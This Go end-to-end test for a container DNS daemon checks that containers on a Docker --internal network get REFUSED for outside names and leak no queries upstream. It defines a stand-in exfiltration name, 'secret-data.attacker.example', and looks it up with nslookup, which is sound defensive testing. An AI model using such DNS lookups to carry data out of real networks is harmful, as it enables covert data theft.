//go:build linux

package e2e

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"
)

// exfilName is what a container on an --internal network would look up to send data out through DNS.
const exfilName = "secret-data.attacker.example"

// internalDoesNotForward: --internal means no egress, DNS included. A container on an --internal network asks
// dnsd (at its gateway and at the service address) for outside names and gets REFUSED, and the upstream sees
// nothing, while the network's own names, also of a container on another host, still resolve. Docker's own
// resolver, forwarding to dnsd, leaks nothing either. net1, not internal, still forwards (the control).
func (s *dnsScenario) internalDoesNotForward(t *testing.T) {
	s.h1.CreateNetwork(t, "inet", append([]string{"--internal"}, netArgs...)...)
	Eventually(t, 2*time.Minute, func() error { _, err := s.h3.NetworkView("inet"); return err })
	v, err := s.h3.NetworkView("inet")
	if err != nil {
		t.Fatal(err)
	}
	gw := v.Gateway
	s.h1.RunContainer(t, "--name", "isvc", "--network", "inet", "-e", "NAME=isvc", HTTPImage)
	s.h3.RunContainer(t, "--name", "iclient", "--network", "inet", "--dns", DNSServiceAddr, BusyboxImage, "sleep", "3600")
	isvc, err := s.h1.ContainerIP("isvc", "inet")
	if err != nil {
		t.Fatal(err)
	}
	for _, server := range []string{gw, DNSServiceAddr} {
		Eventually(t, time.Minute, func() error {
			ips, err := nslookupAt(s.h3, "iclient", "isvc.weavego.local", server)
			if err != nil || !slices.Equal(ips, []string{isvc}) {
				return fmt.Errorf("isvc.weavego.local at %s from h3 on inet: %v, %v; want [%s]", server, ips, err, isvc)
			}
			return nil
		})
	}
	before := s.upstreamQueries.Load()
	for _, server := range []string{gw, DNSServiceAddr} {
		for _, name := range []string{OutsideName, exfilName} {
			out, _ := execIn(s.h3, "iclient", "nslookup", name, server)
			if strings.Contains(out, outsideAddr) || !strings.Contains(out, "REFUSED") {
				t.Errorf("nslookup %s %s on the --internal network: want REFUSED, got %q", name, server, out)
			}
		}
		c := newDNSClient(t, s.h3, "iclient", server)
		for _, name := range []string{OutsideName, exfilName, "nosuchname", "1.2.0.192.in-addr.arpa"} {
			r, err := c.Query(name, dns.TypeA)
			if err != nil || r.Rcode != dns.RcodeRefused || len(r.Answer) > 0 {
				t.Errorf("%s at %s from the --internal network: %v, %v; want REFUSED", name, server, r, err)
			}
		}
	}
	// Docker's resolver (127.0.0.11) forwards what it does not know to the container's --dns, dnsd: whatever it
	// does on an --internal network, nothing may reach the upstream.
	out, _ := execIn(s.h3, "iclient", "nslookup", OutsideName)
	if strings.Contains(out, outsideAddr) {
		t.Errorf("nslookup %s through Docker's resolver on the --internal network answered: %q", OutsideName, out)
	}
	t.Logf("through Docker's resolver on the --internal network, %s gives %q", OutsideName, oneLine(out))
	remote, _ := execIn(s.h3, "iclient", "nslookup", "isvc")
	t.Logf("through Docker's resolver on the --internal network, isvc (on h1) gives %q", oneLine(remote))
	if got := s.upstreamQueries.Load() - before; got != 0 {
		t.Errorf("the upstream got %d queries from a container on an --internal network; want none", got)
	}

	// Control: on net1, not internal, the same client host still forwards. OutsideName may come from
	// dnsd's cache (Upstream asked it within its TTL); a name the upstream answers NXDOMAIN without an
	// SOA is never cached, so it reaches the upstream.
	before = s.upstreamQueries.Load()
	cl := newDNSClient(t, s.h3, "client", s.gw)
	ips, err := cl.A(OutsideName)
	if err != nil || !slices.Equal(ips, []string{outsideAddr}) {
		t.Errorf("%s at %s from net1: %v, %v; want [%s]", OutsideName, s.gw, ips, err, outsideAddr)
	}
	fresh := fmt.Sprintf("control-%d.outside.example.", time.Now().UnixNano())
	if r, err := cl.Query(fresh, dns.TypeA); err != nil || r.Rcode != dns.RcodeNameError {
		t.Errorf("%s at %s from net1: %v, %v; want the upstream's NXDOMAIN", fresh, s.gw, r, err)
	}
	if s.upstreamQueries.Load() == before {
		t.Errorf("%s from net1 was not forwarded to the upstream", fresh)
	}
	if !t.Failed() {
		t.Logf("inet: outside names REFUSED at %s and %s, isvc.weavego.local answers %s across hosts; net1 forwards",
			gw, DNSServiceAddr, isvc)
	}
}

// oneLine joins the lines of out for a log line.
func oneLine(out string) string { return strings.Join(strings.Fields(out), " ") }
